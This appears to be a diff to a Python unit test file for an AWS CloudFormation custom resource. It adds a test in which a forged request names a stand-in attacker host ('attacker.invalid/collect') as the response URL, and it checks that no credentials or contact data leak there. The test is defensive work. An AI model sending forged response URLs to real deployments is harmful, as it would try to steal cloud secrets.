@@ -11,7 +11,14 @@ from botocore.exceptions import ClientError, NoRegionError
 from alternate_contacts.backfill.deadline import RESERVED_SECONDS, deadline_after
 from alternate_contacts.backfill.errors import BackfillError
 from alternate_contacts.backfill.response import ResponseDeliveryError
-from tests.fakes.cloudformation import CONTACT, PHYSICAL_ID, RESPONSE_URL, SIGNATURE, custom_resource_event
+from tests.fakes.cloudformation import (
+    CONTACT,
+    PHYSICAL_ID,
+    RESPONSE_URL,
+    SIGNATURE,
+    STACK_ID,
+    custom_resource_event,
+)
 from tests.fakes.wire import HttpResponse, error_response
 from tests.unit.backfill.conftest import DeployedFunction, set_stack_status
 
@@ -248,6 +255,19 @@ def test_every_success_has_the_same_attributes(function: DeployedFunction, reque
     data = function.request("Update" if request_type == "rollback" else request_type)["Data"]
     assert set(data) == {"Summary", "Listed", "Enqueued", "Skipped"}
     assert all(isinstance(value, str) and value for value in data.values())
+
+
+def test_a_forged_request_with_a_foreign_url_gets_figures_only(function: DeployedFunction) -> None:
+    """Who may invoke the function may read the same figures in the result of a direct invocation."""
+    function.environment |= {"AWS_SESSION_TOKEN": "session token", "AWS_SECRET_ACCESS_KEY": "secret key"}
+    response = function.request("Create", ResponseURL="https://attacker.invalid/collect", StackId=STACK_ID)
+    (request,) = function.response_url.requests
+    assert request.full_url == "https://attacker.invalid/collect"
+    assert request.headers == {"Content-type": ""}
+    figures = {"Status", "Reason", "PhysicalResourceId", "StackId", "RequestId", "LogicalResourceId", "Data"}
+    assert response.keys() == figures
+    secrets = [*CONTACT[1:], "session token", "secret key", function.environment["ACCOUNT_QUEUE_URL"]]
+    assert [secret for secret in secrets if secret in json.dumps(response)] == []
 
 
 # ---- The log --------------------------------------------------------------------------------------------------------
